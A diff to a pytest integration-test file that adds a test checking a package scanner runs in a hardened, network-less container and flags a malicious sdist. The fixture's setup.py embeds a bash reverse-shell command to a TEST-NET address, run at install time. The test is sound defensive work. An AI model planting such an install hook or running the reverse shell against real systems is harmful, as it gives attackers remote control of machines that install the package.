@@ -11,12 +11,15 @@ carry this run's id so nothing else on the shared Redis sees them.
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import re
+import tarfile
 import uuid
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from pathlib import Path
 
 import pytest
 from conftest import Manifests, container_env, containers
@@ -130,7 +133,7 @@ def stack(built: str, rendered: dict[str, Manifests]) -> Iterator[Stack]:
         yield stack
     finally:
         for name in names.values():
-            engine("rm", "--force", "--time", "5", name, check=False)
+            engine("rm", "--force", "--volumes", "--time", "5", name, check=False)
         with psycopg.connect(**PG, autocommit=True) as conn:
             conn.execute(f'DROP DATABASE IF EXISTS "{DB}" WITH (FORCE)')
         client = redis.Redis(host="127.0.0.1", port=6379, db=redis_db)
@@ -258,3 +261,57 @@ def test_a_busy_worker_stopped_by_the_engine_drains_its_job_and_exits_0(stack: S
     status, body = http("GET", f"{stack.api}/jobs/{job['id']}")
     assert body["status"] == "completed", body
     assert body["worker"] == holder["worker"] and body["attempts"] == 1, body
+
+
+def _tar_gz(path: Path, files: dict[str, bytes]) -> None:
+    with tarfile.open(path, "w:gz") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = len(data), 0o644
+            tar.addfile(info, io.BytesIO(data))
+
+
+def test_the_scan_role_runs_in_a_hardened_container_with_no_network(
+    built: str, rendered: dict[str, Manifests], tmp_path: Path
+):
+    """A clean sdist and one whose setup.py opens a reverse shell at install time (a string
+    the scanner reads, never runs; the address is TEST-NET), mounted read-only."""
+    shell = "bash -i >& " + "/dev/tcp/" + "203.0.113.7" + "/4444 0>&1"
+    _tar_gz(
+        tmp_path / "demo_pkg-1.2.3.tar.gz",
+        {
+            "demo_pkg-1.2.3/PKG-INFO": b"Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.2.3\n",
+            "demo_pkg-1.2.3/src/demo_pkg/__init__.py": b"VALUE = 1\n",
+        },
+    )
+    _tar_gz(
+        tmp_path / "bad-1.0.tar.gz",
+        {
+            "bad-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: bad\nVersion: 1.0\n",
+            "bad-1.0/setup.py": (
+                f"from setuptools import setup\nimport os\nos.system('{shell}')\n"
+            ).encode(),
+        },
+    )
+    # Readable by the container's UID 10001, which is not the files' owner.
+    tmp_path.chmod(0o755)
+    workload, container = _container(rendered["minikube"], "worker")
+    flags = [*hardened_flags(workload, container), "--network", "none"]
+    flags += ["--volume", f"{tmp_path}:/scan:ro"]
+    done = engine(
+        "run",
+        "--rm",
+        *flags,
+        built,
+        "scan",
+        "/scan/bad-1.0.tar.gz",
+        "/scan/demo_pkg-1.2.3.tar.gz",
+        check=False,
+    )
+    assert done.returncode == 3, done.stderr
+    reports = [json.loads(line) for line in done.stdout.splitlines()]
+    assert [r["verdict"] for r in reports] == ["malicious", "clean"]
+    assert any(
+        f["file"] == "bad-1.0/setup.py" and f["line"] == 3 and f["reachability"] == "install"
+        for f in reports[0]["findings"]
+    ), reports[0]
